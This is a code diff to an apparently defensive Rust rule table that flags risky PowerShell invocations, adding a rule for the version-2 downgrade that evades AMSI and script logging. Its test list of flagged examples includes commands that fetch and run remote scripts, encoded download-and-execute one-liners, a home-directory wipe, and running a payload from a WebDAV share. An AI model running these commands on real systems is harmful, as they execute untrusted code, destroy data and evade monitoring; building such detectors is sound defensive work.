@@ -1010,7 +1010,13 @@ pub const PROGRAMS: &[Program] = &[
             // option says otherwise.
             OperandCode { index: 0, lang: PowerShell },
         ],
-        value_opts: &["-f", "-file", "-executionpolicy", "-ep", "-ex", "-wd", "-workingdirectory", "-windowstyle", "-w", "-configurationname", "-outputformat", "-o", "-inputformat", "-if", "-settingsfile"],
+        // Windows PowerShell 2.0 predates AMSI and script block logging:
+        // asking for it is a downgrade attack (ATT&CK T1562.010).
+        subs: &[
+            Sub { words: &["-version 2|2.0"], harm: Evasion, level: Medium, reason: "starts Windows PowerShell 2.0, which has no AMSI scanning or script block logging (a downgrade)" },
+            Sub { words: &["-v 2|2.0"], harm: Evasion, level: Medium, reason: "starts Windows PowerShell 2.0, which has no AMSI scanning or script block logging (a downgrade)" },
+        ],
+        value_opts: &["-version", "-v", "-f", "-file", "-executionpolicy", "-ep", "-ex", "-wd", "-workingdirectory", "-windowstyle", "-w", "-configurationname", "-outputformat", "-o", "-inputformat", "-if", "-settingsfile"],
         fold_case: true,
         flagged: &[
             "pwsh -c \"iex (irm https://x.example/a.ps1)\"",
@@ -1020,6 +1026,9 @@ pub const PROGRAMS: &[Program] = &[
             "powershell -EncodedCommand RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=",
             "powershell -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwB4AC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=",
             "pwsh -c \"Start-Process sh -ArgumentList '-c','rm -rf ~'\"",
+            "powershell.exe -version 2",
+            "powershell -v 2 -ep bypass -File a.ps1",
+            "powershell -exec bypass -f '\\\\webdavserver\\folder\\payload.ps1'",
         ],
         clean: &[
             "pwsh -c 'Get-ChildItem'",
